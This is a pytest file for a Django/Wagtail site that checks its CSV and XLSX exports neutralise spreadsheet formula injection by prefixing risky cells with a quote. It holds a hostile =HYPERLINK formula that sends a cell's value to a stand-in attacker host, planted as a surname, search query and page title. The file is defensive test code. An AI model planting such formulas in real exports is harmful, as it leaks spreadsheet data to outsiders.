"""CSV injection: no export lets a spreadsheet run a cell as a formula.

Each export is fed a value a visitor or a member can choose (a surname, a search query, a
title) that begins with a formula character; the exported cell must begin with a single
quote (OWASP), and the XLSX exports keep it as plain text."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from django.core.files.base import ContentFile
from django.utils import timezone

from wagtail.contrib.search_promotions.models import Query
from wagtail.models import Collection

from demo.builders.common import ensure_page, get_home_page
from operations.spreadsheets import safe_cell

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://pirate.example/?v="&A1;"Cliquez")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Dupont", "Dupont"),
        ("Jean-Pierre", "Jean-Pierre"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def read_csv(response, delimiter=","):
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def read_xlsx(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def cells(rows):
    return [cell for row in rows for cell in row]


def assert_neutralised(rows, hostile=HYPERLINK):
    assert "'" + hostile in cells(rows), "the hostile value is exported, prefixed by a quote"
    assert hostile not in cells(rows), "never as is"
    assert not any(isinstance(cell, str) and cell.startswith("=") for cell in cells(rows))


# --- Data that a member, a visitor or an editor can choose ----------------------------------


def hostile_registration():
    from accounts.models import User
    from trainings import registration as service
    from trainings.models import Provider, Session, TrainingCatalogPage, TrainingPage

    catalog = ensure_page(get_home_page(), TrainingCatalogPage, "formations", title="Formations")
    page = TrainingPage(title="Repérer les violences", slug="reperer", provider=Provider.objects.first())
    catalog.add_child(instance=page)
    page.save_revision().publish()
    starts = timezone.now() + datetime.timedelta(days=10)
    session = Session.objects.create(
        page=page, starts_at=starts, ends_at=starts + datetime.timedelta(hours=3), label="@session"
    )
    user = User.objects.create_user("pirate@exemple.fr", "x", first_name="+Jean", last_name=HYPERLINK)
    with service.notifications_muted():
        service.register(user, session.pk)
    return user


def test_registrations_export(client, demo_users):
    hostile_registration()
    client.force_login(demo_users["admin"])
    rows = read_csv(client.get("/admin/inscriptions/", {"export": "csv"}))
    assert_neutralised(rows)
    assert "'+Jean" in cells(rows) and "'@session" in cells(rows)
    sheet = read_xlsx(client.get("/admin/inscriptions/", {"export": "xlsx"}))
    assert HYPERLINK in cells(sheet), "XLSX stores the text itself, as a string"


def test_referent_network_export(client, demo_users):
    from accounts.models import User

    User.objects.create_user("pirate@exemple.fr", "x", first_name="Jean", last_name=HYPERLINK, job_title="-1")
    client.force_login(demo_users["admin"])
    rows = read_csv(client.get("/admin/reseau-referents/", {"export": "csv"}))
    assert_neutralised(rows)
    assert "'-1" in cells(rows)
    sheet = read_xlsx(client.get("/admin/reseau-referents/", {"export": "xlsx"}))
    assert HYPERLINK in cells(sheet)


def test_personal_data_export(client):
    user = hostile_registration()
    client.force_login(user)
    rows = read_csv(client.get("/compte/profil/mes-donnees.csv"), delimiter=";")
    assert_neutralised(rows)
    assert "'+Jean" in cells(rows)


def test_search_queries_report(client, demo_users):
    from search.models import QueryDailyStat

    QueryDailyStat.objects.create(query=HYPERLINK, day=timezone.localdate(), hits=3, last_result_count=0)
    client.force_login(demo_users["moderateur"])
    assert_neutralised(read_csv(client.get("/admin/rapports/recherche/recentes/", {"export": "csv"})))


def test_wagtail_search_terms_report(client, demo_users):
    Query.get(HYPERLINK).add_hit()  # Wagtail stores queries in lower case
    client.force_login(demo_users["admin"])
    rows = read_csv(client.get("/admin/searchpicks/reports/search-terms/", {"export": "csv"}))
    assert_neutralised(rows, hostile=HYPERLINK.lower())


def library_document(title):
    from library.models import LibraryDocument

    return LibraryDocument.objects.create(
        title=title,
        file=ContentFile(b"texte", name="document.txt"),
        collection=Collection.get_first_root_node(),
    )


def test_library_reports(client, demo_users):
    from library.models import DownloadCount, LibraryIndexPage, ResourcePage, ResourceType

    library = ensure_page(get_home_page(), LibraryIndexPage, "ressources", title="Ressources")
    resource = ResourcePage(
        title=HYPERLINK,
        slug="guide",
        resource_type=ResourceType.objects.first(),
        published_on=datetime.date(2020, 1, 1),
        review_due=datetime.date(2021, 1, 1),
    )
    library.add_child(instance=resource)
    document = library_document(HYPERLINK)
    DownloadCount.objects.create(document=document, month=timezone.localdate().replace(day=1), count=2)
    client.force_login(demo_users["editeur"])
    for url in (
        "/admin/rapports/bibliotheque/a-reexaminer/",
        "/admin/rapports/bibliotheque/documents-non-rattaches/",
        "/admin/rapports/bibliotheque/telechargements/",
    ):
        assert_neutralised(read_csv(client.get(url, {"export": "csv"})))


def test_webinar_plays_report(client, demo_users):
    from webinars.models import PlayCount, WebinarIndexPage, WebinarPage

    index = ensure_page(get_home_page(), WebinarIndexPage, "webinaires", title="Webinaires")
    webinar = WebinarPage(
        title=HYPERLINK,
        slug="webinaire",
        date=timezone.now() - datetime.timedelta(days=3),
        external_video_url="https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    )
    index.add_child(instance=webinar)
    PlayCount.objects.create(webinar=webinar, month=timezone.localdate().replace(day=1), count=4)
    client.force_login(demo_users["editeur"])
    assert_neutralised(read_csv(client.get("/admin/rapports/webinaires/lectures/", {"export": "csv"})))
